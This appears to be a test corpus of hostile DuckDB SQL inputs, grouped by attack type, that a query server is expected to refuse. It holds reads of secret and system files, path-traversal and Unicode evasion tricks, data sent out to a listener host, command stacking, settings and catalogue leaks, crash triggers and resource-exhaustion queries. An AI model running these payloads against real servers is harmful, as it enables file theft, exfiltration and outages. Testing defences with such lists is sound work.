-- What strangers may send: texts that try to read what is not theirs, to change something, or to bring the server down.
--
-- Entries stand apart by blank lines and may have several lines. A line `--# …` is a heading; a line `--> …` lists the
-- reasons with which the entries below it may be refused, up to the next such line. OK there means that an answer is
-- fine, as long as nothing in it is a secret.
--
-- Replaced before use: {secret} a file outside of the data folder, {link} a link inside of it to that file, {cold} the folder
-- of the datasets, {spill} the folder that queries spill to, {port} the port of somebody who listens, {U+0000} a
-- character by its code. There is a dataset `flights` with a column `n` of whole numbers, and one `secrets.of.others`.

--# Files through table functions
--> QUERY_NOT_ALLOWED

SELECT * FROM read_csv('{secret}')

SELECT * FROM read_csv_auto('{secret}', header = false)

SELECT content FROM read_text('{secret}')

SELECT content FROM read_blob('{secret}')

SELECT * FROM read_json('{secret}')

SELECT * FROM read_json_auto('{secret}')

SELECT * FROM read_json_objects('{secret}', format = 'unstructured')

SELECT * FROM read_json_objects_auto('{secret}')

SELECT * FROM read_ndjson('{secret}')

SELECT * FROM read_ndjson_auto('{secret}')

SELECT * FROM read_ndjson_objects('{secret}')

SELECT * FROM read_duckdb('{secret}')

SELECT content FROM read_text(['flights.parquet', '{secret}'])

SELECT content FROM read_text('/proc/self/environ')

SELECT content FROM read_text('/proc/self/cmdline')

SELECT content FROM read_blob('/dev/zero')

SELECT content FROM read_text('{link}')

SELECT content FROM read_text('{cold}/flights/_polarway/commits/*.json')

SELECT content FROM read_blob('{cold}/flights/_polarway/data/*')

SELECT * FROM read_json('{cold}/flights/_polarway/commits/0000000001.json')

SELECT content FROM read_blob('{spill}/*')

SELECT content FROM read_text('~/.ssh/*')

SELECT content FROM read_text('file://{secret}')

SELECT content FROM main.read_text('{secret}')

SELECT content FROM system.main.read_text('{secret}')

SELECT content FROM "read_text"('{secret}')

SELECT content FROM READ_TEXT('{secret}')

SELECT content FROM "rEaD_tExT"('{secret}')

SELECT * FROM glob('/*')

SELECT * FROM glob('{cold}/**')

SELECT * FROM sniff_csv('{secret}')

SELECT * FROM parquet_metadata('{cold}/**/*.parquet')

SELECT * FROM parquet_schema('{cold}/**/*.parquet')

SELECT * FROM parquet_file_metadata('{cold}/**/*.parquet')

SELECT * FROM parquet_kv_metadata('{cold}/**/*.parquet')

SELECT * FROM parquet_full_metadata('{cold}/**/*.parquet')

SELECT * FROM parquet_bloom_probe('{cold}/**/*.parquet', 'n', 1)

SELECT * FROM seq_scan('flights')

SELECT * FROM arrow_scan(1, 2, 3)

SELECT * FROM arrow_scan_dumb(140000000000000, 140000000000000, 140000000000000)

--# Files through read_parquet
--> QUERY_NOT_ALLOWED UNKNOWN_DATASET INVALID_QUERY UNSUPPORTED

SELECT * FROM read_parquet('{secret}')

SELECT * FROM parquet_scan('{secret}')

SELECT * FROM read_parquet('{link}')

SELECT * FROM read_parquet(['flights.parquet', '{secret}'])

SELECT * FROM read_parquet('../{secret}')

SELECT * FROM read_parquet('../secret.parquet')

SELECT * FROM read_parquet('./../secret.parquet')

SELECT * FROM read_parquet('{cold}/../secret.parquet')

SELECT * FROM read_parquet('{cold}/flights/../../secret.parquet')

SELECT * FROM read_parquet('..\secret.parquet')

SELECT * FROM read_parquet('{cold}\..\secret.parquet')

SELECT * FROM read_parquet('%2e%2e/secret.parquet')

SELECT * FROM read_parquet('..%2fsecret.parquet')

SELECT * FROM read_parquet('/%2e%2e/%65tc/passwd')

SELECT * FROM read_parquet('{U+2025}/secret.parquet')

SELECT * FROM read_parquet('.{U+200B}./secret.parquet')

SELECT * FROM read_parquet('..{U+2215}secret.parquet')

SELECT * FROM read_parquet('//{secret}')

SELECT * FROM read_parquet('{cold}//..//secret.parquet')

SELECT * FROM read_parquet('{cold}{secret}')

SELECT * FROM read_parquet('~/secret.parquet')

SELECT * FROM read_parquet('~root/secret.parquet')

SELECT * FROM read_parquet('$HOME/secret.parquet')

SELECT * FROM read_parquet('file:{secret}')

SELECT * FROM read_parquet('file://{secret}')

SELECT * FROM read_parquet('file:///etc/*')

SELECT * FROM read_parquet('{{secret},flights.parquet}')

SELECT * FROM read_parquet('/**/*.parquet')

SELECT * FROM read_parquet('/proc/self/root{cold}/*.parquet')

SELECT * FROM read_parquet('/proc/self/fd/*')

SELECT * FROM read_parquet('/dev/stdin')

SELECT * FROM read_parquet('flights/_polarway/data/*.parquet')

SELECT * FROM read_parquet('{cold}/flights/_polarway/commits/*.json')

SELECT * FROM read_parquet('flights/year=2024/../../../secret.parquet', hive_partitioning = true)

SELECT * FROM read_parquet('leak/*.parquet')

SELECT * FROM read_parquet('leak.parquet')

SELECT * FROM read_parquet('flights.parquet', filename = true)

SELECT * FROM read_parquet('flights.parquet', file_row_number = true)

SELECT * FROM read_parquet('flights.parquet', encryption_config = {footer_key: 'k'})

SELECT * FROM read_parquet('flights.parquet', explicit_cardinality = 1000000000000)

SELECT * FROM read_parquet('flights.parquet', schema = MAP {1: {name: 'a', type: 'BLOB', default_value: NULL}})

SELECT * FROM read_parquet('flights.parquet', FILENAME => 'n')

SELECT * FROM read_parquet('flights.parquet', 'hive_partitioning' = true)

SELECT * FROM read_parquet('flights.parquet', hive_partitioning = (SELECT content FROM read_text('{secret}')) IS NULL)

SELECT * FROM read_parquet(filename => '{secret}')

SELECT * FROM read_parquet('flights' || '.parquet')

SELECT * FROM read_parquet((SELECT '{secret}'))

SELECT * FROM read_parquet(['flights.parquet', '/etc' || '/passwd'])

SELECT * FROM read_parquet(list_value('{secret}'))

SELECT * FROM read_parquet(['flights.parquet', ['{secret}']])

SELECT * FROM read_parquet(CAST('{secret}' AS VARCHAR))

SELECT * FROM read_parquet('{secret}'::VARCHAR)

SELECT * FROM read_parquet($${secret}$$)

SELECT * FROM read_parquet(e'\x2fetc/passwd')

SELECT * FROM read_parquet(lower('{secret}'))

SELECT * FROM read_parquet('flights.parquet', '{secret}')

SELECT * FROM read_parquet('flights.parquet{U+0001}{secret}')

SELECT * FROM read_parquet('flights.parquet
../secret.parquet')

SELECT * FROM read_parquet('{secret}') WITH ORDINALITY

SELECT * FROM read_parquet('flights.parquet') AS t, read_parquet('{secret}') AS u

SELECT * FROM range(3), LATERAL (SELECT * FROM read_parquet('{secret}'))

--# Files as table names
--> UNKNOWN_DATASET QUERY_NOT_ALLOWED INVALID_QUERY

SELECT * FROM '{secret}'

SELECT * FROM "{secret}"

SELECT * FROM '{secret}' AS t

SELECT * FROM '/etc/passwd'

SELECT * FROM "/proc/self/environ"

SELECT * FROM '{secret}.csv'

SELECT * FROM 'secret.csv'

SELECT * FROM "secret.json"

SELECT * FROM 'flights.duckdb'

SELECT * FROM '../secret.parquet'

SELECT * FROM '{link}'

SELECT * FROM 'leak.parquet'

SELECT * FROM '{cold}/flights/_polarway/commits/*.json'

SELECT * FROM '/{cold}/*.parquet'

SELECT * FROM '{spill}/*.parquet'

SELECT * FROM "file:{secret}"

SELECT * FROM 'file:///etc/x.parquet'

SELECT * FROM e'\x2f\x65tc/passwd'

SELECT * FROM $${secret}$$

FROM '{secret}' SELECT *

TABLE '{secret}'

SELECT * FROM main."{secret}"

SELECT * FROM memory.main."{secret}"

SELECT * FROM "{secret}" AT (VERSION => 1)

SELECT * FROM '*.csv'

SELECT * FROM '?'

--# Somebody else's machine
--> QUERY_NOT_ALLOWED UNKNOWN_DATASET INVALID_QUERY

SELECT * FROM read_parquet('http://127.0.0.1:{port}/x.parquet')

SELECT * FROM read_parquet('https://127.0.0.1:{port}/x.parquet')

SELECT * FROM read_parquet('HTTP://127.0.0.1:{port}/x.parquet')

SELECT * FROM read_parquet(['flights.parquet', 'http://127.0.0.1:{port}/x.parquet'])

SELECT * FROM 'http://127.0.0.1:{port}/x.parquet'

SELECT * FROM 'http://127.0.0.1:{port}/x.csv'

SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')

SELECT * FROM read_text('http://user:password@127.0.0.1:{port}/')

SELECT * FROM read_parquet('s3://bucket/x.parquet?s3_endpoint=127.0.0.1:{port}&s3_use_ssl=false')

SELECT * FROM 's3://127.0.0.1:{port}/x.parquet'

SELECT * FROM 's3a://127.0.0.1:{port}/x.parquet'

SELECT * FROM 'gs://127.0.0.1:{port}/x.parquet'

SELECT * FROM 'gcs://127.0.0.1:{port}/x.parquet'

SELECT * FROM 'r2://127.0.0.1:{port}/x.parquet'

SELECT * FROM 'az://127.0.0.1:{port}/x.parquet'

SELECT * FROM 'abfss://127.0.0.1:{port}/x.parquet'

SELECT * FROM 'hf://datasets/127.0.0.1:{port}/x.parquet'

SELECT * FROM 'http:/127.0.0.1:{port}/x.parquet'

SELECT * FROM '//127.0.0.1:{port}/x.parquet'

SELECT * FROM '\\127.0.0.1:{port}\x.parquet'

SELECT * FROM which_secret('s3://127.0.0.1:{port}/x', 's3')

ATTACH 'http://127.0.0.1:{port}/x.duckdb' AS remote (READ_ONLY)

ATTACH 'postgres:host=127.0.0.1 port={port}' AS remote (TYPE postgres)

COPY flights TO 'http://127.0.0.1:{port}/stolen.csv'

INSTALL httpfs FROM 'http://127.0.0.1:{port}'

SELECT error('http://127.0.0.1:{port}/') FROM read_json('http://127.0.0.1:{port}/')

--# Other databases, copies, extensions
--> QUERY_NOT_ALLOWED INVALID_QUERY

ATTACH '{secret}' AS other

ATTACH ':memory:' AS other

ATTACH IF NOT EXISTS '{cold}/new.duckdb' AS other

ATTACH OR REPLACE ':memory:' AS analytics

DETACH temp

DETACH DATABASE IF EXISTS analytics

COPY flights TO '{cold}/stolen.csv'

COPY (SELECT * FROM flights) TO '{cold}/stolen.parquet' (FORMAT parquet)

COPY flights FROM '{secret}'

COPY (SELECT 1) TO '/dev/stdout'

COPY FROM DATABASE memory TO temp

EXPLAIN COPY flights TO '{cold}/stolen.csv'

EXPLAIN ANALYZE COPY flights TO '{cold}/stolen.csv'

EXPLAIN (ANALYZE, FORMAT json) COPY (SELECT 1) TO '{cold}/stolen.csv'

EXPORT DATABASE '{cold}/export'

IMPORT DATABASE '{cold}/export'

INSTALL httpfs

FORCE INSTALL httpfs

LOAD httpfs

LOAD '{cold}/evil.duckdb_extension'

UPDATE EXTENSIONS

CREATE SECRET (TYPE s3, KEY_ID 'k', SECRET 's')

CREATE PERSISTENT SECRET stolen (TYPE http)

DROP SECRET stolen

--# Settings
--> QUERY_NOT_ALLOWED INVALID_QUERY

SET enable_external_access = true

SET GLOBAL allowed_directories = ['/']

SET SESSION search_path = 'system,pg_catalog'

SET search_path TO 'analytics'

SET LOCAL threads = 1

SET TimeZone = 'America/New_York'

SET VARIABLE x = (SELECT content FROM read_text('{secret}'))

RESET threads

RESET VARIABLE x

PRAGMA database_list

PRAGMA enable_profiling

PRAGMA memory_limit = '1TB'

PRAGMA table_info('flights')

PRAGMA version

CALL pragma_version()

CALL duckdb_settings()

CALL enable_logging(storage = 'file')

CALL force_checkpoint()

SELECT current_setting('temp_directory')

SELECT main.current_setting('temp_directory')

SELECT system.main.current_setting('temp_directory')

SELECT "current_setting"('temp_directory')

SELECT CURRENT_SETTING('allowed_directories')

SELECT ('temp_directory').current_setting()

SELECT 'temp_directory'.current_setting()

SELECT getenv('PATH')

SELECT ('PATH').getenv()

SELECT getvariable('x')

SELECT list_transform(['temp_directory'], lambda s: current_setting(s))

SELECT list_transform(['temp_directory'], s -> current_setting(s))

SELECT [current_setting(s) FOR s IN ['temp_directory']]

SELECT {'a': current_setting('temp_directory')}

SELECT {'a': [{'b': getvariable('x')}]}.a[1].b

SELECT MAP {'a': current_setting('temp_directory')}

SELECT list_reduce([1, 2], lambda a, b: length(current_setting('temp_directory')))

SELECT COLUMNS(c -> getvariable(c) IS NULL) FROM flights

SELECT * REPLACE (current_setting('temp_directory') AS n) FROM flights

SELECT n FROM flights ORDER BY current_setting('temp_directory')

SELECT n FROM flights GROUP BY n, current_setting('temp_directory')

SELECT sum(n) FILTER (WHERE current_setting('temp_directory') <> '') FROM flights

SELECT sum(n ORDER BY getvariable('x')) FROM flights

SELECT lag(n, 1, length(current_setting('temp_directory'))) OVER (ORDER BY n) FROM flights

SELECT sum(n) OVER (ROWS BETWEEN length(current_setting('threads')) PRECEDING AND CURRENT ROW) FROM flights

SELECT n FROM flights LIMIT length(current_setting('temp_directory'))

SELECT n FROM flights USING SAMPLE (length(current_setting('threads')))

SELECT CASE WHEN true THEN current_setting('temp_directory') END

SELECT current_setting('temp_directory') COLLATE nocase

SELECT CAST(current_setting('threads') AS INTEGER[])

SELECT version()

SELECT current_query()

SELECT txid_current()

SELECT nextval('s')

SELECT setseed(0.5)

SELECT inet_server_addr()

SELECT pg_conf_load_time()

SELECT has_table_privilege('flights', 'SELECT')

SELECT current_setting{U+00A0}('temp_directory')

SELECT curren{U+0074}_setting('temp_directory')

SELECT current_setting/**/('temp_directory')

SELECT current_setting -- (
('temp_directory')

SELECT "current_{U+017F}etting"('temp_directory')

SELECT current{U+200B}_setting('temp_directory')

SELECT {U+0441}urrent_setting('temp_directory')

--# Several statements in one text
--> QUERY_NOT_ALLOWED INVALID_QUERY

SELECT 1; DROP TABLE flights

SELECT 1; SELECT 2

DROP VIEW flights; SELECT 1

;;; SELECT 1; ATTACH '{secret}'

SELECT ';'; COPY (SELECT 1) TO '{cold}/stolen.csv'

SELECT 1 /* ; */; SET threads = 1

SELECT 1 -- ;
; SET threads = 1

SELECT 1 /* /* */; */ ; SET threads = 1

SELECT $$;$$; SET threads = 1

SELECT $tag$ $$;'" $tag$; SET threads = 1

SELECT e'\';'; SET threads = 1

SELECT 'a'';'; SET threads = 1

SELECT ";" FROM (SELECT 1 AS ";"); SET threads = 1

SELECT 1{U+000D}; SET threads = 1

SELECT 1 --{U+000D}; SET threads = 1

EXPLAIN SELECT 1; SET threads = 1

EXPLAIN (ANALYZE) SELECT 1; DROP VIEW flights

WITH a AS (SELECT 1) SELECT * FROM a; PRAGMA enable_profiling

SELECT 1{U+003B} SET threads = 1

BEGIN; SELECT 1; COMMIT

PREPARE p AS SELECT 1; EXECUTE p

SELECT 1{U+0000}; DROP VIEW flights

SELECT 1{U+FF1B} SET threads = 1

--# Statements that keep or change something
--> QUERY_NOT_ALLOWED INVALID_QUERY

PREPARE p AS SELECT content FROM read_text('{secret}')

EXECUTE p

DEALLOCATE p

BEGIN

BEGIN TRANSACTION READ ONLY

COMMIT

ROLLBACK

CREATE TABLE x AS SELECT 1

CREATE TEMP TABLE flights AS SELECT 1

CREATE OR REPLACE TEMP VIEW flights AS SELECT 1 AS n

CREATE TEMP MACRO sum(x) AS 1

CREATE MACRO system.main.read_parquet(x) AS TABLE SELECT 1

CREATE FUNCTION stolen() AS TABLE SELECT content FROM read_text('{secret}')

CREATE SCHEMA stolen

CREATE SEQUENCE s

CREATE TYPE mood AS ENUM (SELECT content FROM read_text('{secret}'))

CREATE INDEX i ON flights (n)

INSERT INTO flights VALUES (1)

INSERT INTO flights SELECT 1 RETURNING *

UPDATE flights SET n = 0

DELETE FROM flights

DELETE FROM flights RETURNING n

MERGE INTO flights USING (SELECT 1 AS n) AS u ON flights.n = u.n WHEN MATCHED THEN DELETE

ALTER VIEW flights RENAME TO others

ALTER TABLE flights ADD COLUMN x INTEGER

DROP VIEW flights

DROP TABLE IF EXISTS flights CASCADE

TRUNCATE flights

VACUUM

VACUUM ANALYZE flights

ANALYZE

CHECKPOINT

FORCE CHECKPOINT

USE memory

USE analytics.main

COMMENT ON TABLE flights IS 'stolen'

SELECT n INTO stolen FROM flights

WITH gone AS (DELETE FROM flights RETURNING n) SELECT * FROM gone

WITH made AS (INSERT INTO flights VALUES (1) RETURNING n) SELECT * FROM made

SELECT * FROM (DELETE FROM flights RETURNING n)

SELECT (INSERT INTO flights VALUES (1) RETURNING n)

EXPLAIN DELETE FROM flights

EXPLAIN ANALYZE INSERT INTO flights VALUES (1)

EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1

EXPLAIN ANALYZE PRAGMA enable_profiling

EXPLAIN ANALYZE SET threads = 1

EXPLAIN EXPLAIN ANALYZE DROP VIEW flights

EXPLAIN (ANALYZE, FORMAT 'html') SELECT 1

EXPLAIN ANALYZE EXECUTE p

PIVOT flights ON n USING count(*)

--# SQL as text
--> QUERY_NOT_ALLOWED INVALID_QUERY

SELECT * FROM query('SELECT content FROM read_text(''{secret}'')')

SELECT * FROM query_table('{secret}')

SELECT * FROM query_table(['flights', 'duckdb_settings'])

SELECT * FROM histogram('{secret}', n)

SELECT * FROM histogram_values('duckdb_views', sql)

SELECT * FROM json_execute_serialized_sql('{"statements": []}')

SELECT * FROM json_execute_serialized_sql((SELECT json_serialize_sql('SELECT 1')))

PRAGMA json_execute_serialized_sql('{"statements": []}')

SELECT json_serialize_sql('SELECT 1')

SELECT json_serialize_plan('SELECT * FROM ''{secret}''')

SELECT json_deserialize_sql('{"statements": []}')

SELECT * FROM sql_auto_complete('SELECT * FROM ''/etc/')

SELECT * FROM check_peg_parser('SELECT 1')

SELECT * FROM summary((SELECT 1))

SELECT write_log('stolen')

SELECT sleep_ms(100000)

SELECT pg_sleep(100)

--# Lists of other people's things
--> QUERY_NOT_ALLOWED UNKNOWN_DATASET INVALID_QUERY

SELECT * FROM duckdb_settings()

SELECT * FROM duckdb_views()

SELECT * FROM duckdb_views

SELECT * FROM main.duckdb_views

SELECT * FROM duckdb_databases()

SELECT * FROM duckdb_secrets(redact = false)

SELECT * FROM duckdb_logs

SELECT * FROM duckdb_prepared_statements()

SELECT * FROM duckdb_temporary_files()

SELECT * FROM duckdb_external_file_cache()

SELECT * FROM duckdb_variables()

SELECT * FROM duckdb_functions()

SELECT * FROM duckdb_extensions()

SELECT * FROM duckdb_memory()

SELECT * FROM pragma_database_list

SELECT * FROM pragma_show('flights')

SELECT * FROM pragma_table_info('flights')

SELECT * FROM pragma_storage_info('flights')

SELECT * FROM pragma_database_size()

SELECT * FROM pg_catalog.pg_class

SELECT * FROM pg_catalog.pg_settings

SELECT * FROM pg_tables

SELECT * FROM sqlite_master

SELECT * FROM sqlite_schema

SELECT * FROM temp.sqlite_master

SELECT * FROM information_schema.schemata

SELECT * FROM information_schema.views

SELECT * FROM system.information_schema.tables

SELECT * FROM "information_schema"."table_constraints"

SELECT * FROM polarway.information_schema.character_sets

SELECT * FROM system.main.duckdb_views

SELECT * FROM temp.duckdb_views

SELECT * FROM memory.information_schema.tables

SHOW DATABASES

SHOW SCHEMAS

SHOW VARIABLES

SHOW TABLES FROM temp

SHOW TABLES FROM system.main

DESCRIBE duckdb_views

SUMMARIZE duckdb_settings

SHOW temp.information_schema.tables

DESCRIBE SELECT * FROM duckdb_settings()

SUMMARIZE SELECT content FROM read_text('{secret}')

DESCRIBE '{secret}'

SUMMARIZE '{secret}'

FROM (DESCRIBE duckdb_views)

FROM (SUMMARIZE SELECT * FROM duckdb_settings())

EXPLAIN SELECT * FROM duckdb_settings()

EXPLAIN ANALYZE SELECT content FROM read_text('{secret}')

EXPLAIN (FORMAT json) SELECT * FROM '{secret}'

SELECT * FROM analytics.main.t

SELECT * FROM analytics.duckdb_views

SELECT analytics.stolen()

SELECT * FROM analytics.stolen()

SELECT * FROM temp.flights

SELECT * FROM temp.main.flights

SELECT * FROM "polarway:0"

SELECT * FROM temp."polarway:0"

SELECT * FROM "polarway:1", flights AT (VERSION => 1)

SELECT * FROM flights AT (VERSION => 1), "polarway:0"

SELECT * FROM "POLARWAY:0", read_parquet('flights.parquet')

SELECT "polarway:0".n FROM flights AT (VERSION => 1) AS f, "polarway:0"

--# A name of the text's own that lets another one through
--> UNKNOWN_DATASET QUERY_NOT_ALLOWED INVALID_QUERY

SELECT * FROM (WITH duckdb_views AS (SELECT 1) FROM duckdb_views) AS a, duckdb_views AS b

WITH duckdb_views AS (FROM duckdb_views) FROM duckdb_views

WITH a AS (FROM duckdb_views), duckdb_views AS (SELECT 1) FROM a

WITH x AS (WITH duckdb_views AS (SELECT 1) SELECT 2) SELECT * FROM duckdb_views

WITH RECURSIVE duckdb_views AS (SELECT count(*) FROM duckdb_views) SELECT * FROM duckdb_views

WITH RECURSIVE duckdb_views AS (FROM duckdb_views UNION ALL SELECT 1) FROM duckdb_views

SELECT (WITH duckdb_views AS (SELECT 7) SELECT count(*) FROM duckdb_views), (SELECT count(*) FROM duckdb_views)

WITH "duc{U+212A}db_views" AS (SELECT 1) SELECT sql FROM duckdb_views

WITH "duc{U+212A}db_databases" AS (SELECT 1) SELECT path FROM duckdb_databases

WITH "{cold}/flights/_polarway/commits/*.json{U+212A}" AS (SELECT 1) FROM '{cold}/flights/_polarway/commits/*.jsonk'

WITH duc{U+212A}db_views AS (SELECT 1) SELECT * FROM DUCKDB_VIEWS

WITH "duckdb_views " AS (SELECT 1) SELECT * FROM duckdb_views

WITH "duckdb_views{U+200B}" AS (SELECT 1) SELECT * FROM duckdb_views

WITH "{secret}" AS (SELECT 1) SELECT * FROM "{secret}" AT (VERSION => 1)

WITH duckdb_views AS (SELECT 1) SELECT * FROM main.duckdb_views

WITH duckdb_views AS (SELECT 1) SELECT * FROM temp.duckdb_views

WITH duckdb_views AS (SELECT 1) SELECT * FROM recurring.duckdb_views

WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings()

WITH read_text AS (SELECT 1) SELECT * FROM read_text('{secret}')

SELECT * FROM flights AS duckdb_views, (SELECT * FROM duckdb_views)

SELECT * FROM (SELECT 1) AS duckdb_views WHERE EXISTS (FROM duckdb_views)

WITH a AS (SELECT 1 UNION ALL (WITH duckdb_views AS (SELECT 2) FROM duckdb_views)) SELECT * FROM a, duckdb_views

(WITH duckdb_views AS (SELECT 1) SELECT 1) UNION ALL SELECT count(*) FROM duckdb_views

SELECT sum(n) OVER w FROM flights WINDOW w AS (ORDER BY (SELECT count(*) FROM duckdb_views))

SELECT * FROM flights JOIN duckdb_views ON true

SELECT * FROM flights POSITIONAL JOIN duckdb_views

SELECT * FROM flights, LATERAL (SELECT * FROM duckdb_views WHERE n > 0)

SELECT * FROM flights WHERE n IN (SELECT view_oid FROM duckdb_views)

SELECT * FROM flights WHERE n = ANY (SELECT view_oid FROM duckdb_views)

SELECT unnest((SELECT list(sql) FROM duckdb_views))

SELECT ARRAY(SELECT sql FROM duckdb_views)

SELECT * FROM unnest((SELECT list(content) FROM read_text('{secret}')))

SELECT * FROM range((SELECT length(content) FROM read_text('{secret}')))

SELECT * FROM json_each((SELECT content FROM read_text('{secret}')))

FROM flights PIVOT (count(*) FOR n IN (1)) WHERE EXISTS (FROM read_text('{secret}'))

PIVOT (SELECT content FROM read_text('{secret}')) ON content IN ('a')

UNPIVOT (SELECT content FROM read_text('{secret}')) ON COLUMNS(*)

VALUES ((SELECT content FROM read_text('{secret}')))

SELECT * EXCLUDE (n), (SELECT content FROM read_text('{secret}')) FROM flights

SELECT n FROM flights QUALIFY (SELECT count(*) FROM glob('/*')) > 0

SELECT n FROM flights GROUP BY ALL HAVING (SELECT count(*) FROM glob('/*')) > 0

SELECT DISTINCT ON ((SELECT count(*) FROM glob('/*'))) n FROM flights

SELECT n FROM flights GROUP BY GROUPING SETS (((SELECT count(*) FROM glob('/*'))), ())

SELECT list_transform([1], lambda x: (SELECT count(*) FROM glob('/*')))

--# Odd spellings
--> UNKNOWN_DATASET QUERY_NOT_ALLOWED INVALID_QUERY UNSUPPORTED

SELECT * FROM "secrets.of.others "

SELECT * FROM fl{U+0131}ghts

SELECT * FROM "flights{U+0000}"

SELECT * FROM {U+0066}lights{U+0301}

{U+FEFF}DROP VIEW flights

{U+FEFF}{U+FEFF}SELECT * FROM '{secret}'

SELECT * FROM/* '*/ '{secret}'

SELECT * FROM /* /* nested */ flights */ '{secret}'

SELECT * FROM -- flights
'{secret}'

SELECT * FROM U&"\0066lights"

SELECT * FROM U&'\002Fetc\002Fpasswd'

SELECT * FROM N'/etc/passwd'

SELECT * FROM x'2f657463'

SELECT * FROM b'0101'

SELECT * FROM $1

SELECT * FROM ?

SELECT * FROM $name

SELECT $1, $name

SELECT ?, ?, $5

SELECT * FROM read_parquet($1)

SELECT * FROM flights AT (VERSION => (SELECT 1))

SELECT * FROM flights AT (VERSION => length(current_setting('threads')))

SELECT * FROM flights AT (VERSION => -1)

SELECT * FROM flights AT (VERSION => 1.5)

SELECT * FROM flights AT (VERSION => '1; DROP VIEW flights')

SELECT * FROM flights AT (VERSION => 1) AT (VERSION => 1)

SELECT * FROM flights AT (TIMESTAMP => now())

SELECT * FROM flights AT (TIMESTAMP => 'infinity')

SELECT * FROM flights AT (TIMESTAMP => getvariable('x'))

SELECT * FROM flights AT (TIMESTAMP => CAST((SELECT content FROM read_text('{secret}')) AS TIMESTAMP))

SELECT * FROM flights AT (FILE => '{secret}')

SELECT * FROM flights AT (VERSION => 1) /* ' */ , '{secret}' --'

SELECT '{secret}'::regclass

SELECT CAST('{secret}' AS regclass)

SELECT 1::"{secret}"

SELECT 1::analytics.main.stolen

SELECT NULL::ENUM (SELECT content FROM read_text('{secret}'))

SELECT 'a' COLLATE "{secret}"

SELECT 1 OPERATOR(main.current_setting) 'threads'

SELECT 1 OPERATOR(analytics.+) 2

SELECT main.read_text('{secret}')

SELECT glob('/*')

SELECT read_parquet('{secret}')

SELECT filename FROM flights

SELECT file_row_number FROM flights

SELECT * FROM flights WHERE filename LIKE '/%'

SELECT * FROM test_all_types()

SELECT * FROM test_vector_types(NULL::INTEGER)

SELECT * FROM repeat_row(1, num_rows = 1000000000)

SELECT * FROM no_such_function_at_all()

SELECT no_such_function_at_all('{secret}')

SELECT

SELECT 'open

SELECT "open

SELECT /* open

SELECT $$open

EXPLAIN

EXPLAIN (

EXPLAIN (ANALYZE

EXPLAIN (FORMAT

--# Versions that are not there
--> UNKNOWN_VERSION

SELECT * FROM flights AT (VERSION => 9223372036854775807)

SELECT * FROM flights AT (VERSION => 0)

SELECT * FROM flights AT (TIMESTAMP => '0001-01-01')

SELECT * FROM flights AT (TIMESTAMP => 'epoch'::DATE)

--# More than a value or a plan may be
--> QUERY_NOT_ALLOWED QUERY_TOO_LARGE INVALID_QUERY

SELECT length(repeat('x', 4000000000))

SELECT length("REPEAT"('x', 4e9::BIGINT))

SELECT length(repeat('x', 9223372036854775807))

SELECT length(repeat('x', 2 * 2000000000))

SELECT length(repeat('x', 10 ** 10))

SELECT length(repeat(repeat('x', 60000), 60000))

SELECT length(('x').repeat(4000000000))

SELECT length(lpad('x', 2000000000, 'y'))

SELECT length(rpad('x', 2000000000, 'y'))

SELECT length(bar(1, 0, 1, 1e10))

SELECT len(range(10000000000))

SELECT len(generate_series(0, 9223372036854775807))

SELECT len(range(0, 1e12::BIGINT, 3))

SELECT list_resize([1], 4000000000)

SELECT array_resize([1], 4000000000, 0)

SELECT printf('%2000000000d', 1)

SELECT format('{:>2000000000}', 'x')

SELECT * FROM repeat(1, 100000000000)

SELECT unnest(range(10000000000))

--# What ends the process
--> QUERY_NOT_ALLOWED

SELECT lag(n, -9223372036854775808) OVER () FROM flights

SELECT lead(n, -9223372036854775807 - 1) OVER (ORDER BY n) FROM flights

SELECT lag(n, (SELECT min(x) FROM (VALUES (-9223372036854775808)) AS t(x))) OVER () FROM flights

SELECT lag(n, CAST('-9223372036854775808' AS BIGINT)) OVER () FROM flights

SELECT lag(n, n) OVER () FROM flights

SELECT reservoir_quantile(n, 'nan'::DOUBLE) FROM flights

SELECT reservoir_quantile(n, 0.5, 2147483647) FROM flights

SELECT list_aggregate([1, 2], 'reservoir_quantile', 'nan'::DOUBLE)

SELECT list_aggregate([1, 2], 'current_setting')

SELECT "LIST_AGGREGATE"([1, 2], 'Reservoir_Quantile', 'nan'::DOUBLE)

SELECT [1, 2].list_aggr('reservoir_' || 'quantile', 'nan'::DOUBLE)

--# Work without an end: stopped, and the server with its memory stays
--> DEADLINE_EXCEEDED QUERY_TOO_LARGE RESOURCE_EXHAUSTED QUERY_FAILED

SELECT sum(a.range * b.range) FROM range(10000000) AS a, range(10000000) AS b

SELECT * FROM range(100000000000) AS a ORDER BY hash(range)

SELECT count(DISTINCT hash(range)) FROM range(100000000000)

SELECT string_agg(a.range::VARCHAR, ',') FROM range(1000000) AS a, range(1000000) AS b

SELECT list(a.range) FROM range(1000000) AS a, range(1000000) AS b

SELECT a.range, count(*) FROM range(1000000000) AS a GROUP BY a.range

WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r

WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r, range(3)) SELECT count(*) FROM r

WITH RECURSIVE r AS (SELECT 1 AS n UNION SELECT n + 1 FROM r) SELECT max(n) FROM r

SELECT count(*) FROM generate_series(1, 9223372036854775806)

SELECT sum(length(regexp_replace(repeat(chr(97 + (range % 2)::INTEGER), 30000), '(a+)+$', 'b'))) FROM range(100000000)

SELECT histogram(hash(range)) FROM range(10000000000)

SELECT sum(x) FROM (SELECT unnest(range(range % 1000)) AS x FROM range(1000000000))

SELECT sum(hash(range)) OVER (ORDER BY hash(range)) FROM range(1000000000)

SELECT median(hash(a.range + b.range)) FROM range(1000000) AS a, range(1000000) AS b

SELECT count(*) FROM flights AS a, flights AS b, flights AS c, flights AS d, flights AS e, flights AS f, range(10000000)

EXPLAIN ANALYZE SELECT sum(a.range * b.range) FROM range(10000000) AS a, range(10000000) AS b

SUMMARIZE SELECT hash(range) FROM range(100000000000)

SELECT length(json_group_array(hash(range))) FROM range(100000000000)

SELECT * FROM flights AS a, flights AS b, flights AS c, flights AS d, range(1000000000) AS e ORDER BY ALL

--# What is allowed, and tells nothing
--> OK QUERY_FAILED QUERY_TOO_LARGE INVALID_QUERY UNSUPPORTED

EXPLAIN SELECT * FROM flights

EXPLAIN ANALYZE SELECT * FROM flights

EXPLAIN (ANALYZE, FORMAT json) SELECT * FROM flights AS a JOIN flights AS b USING (n)

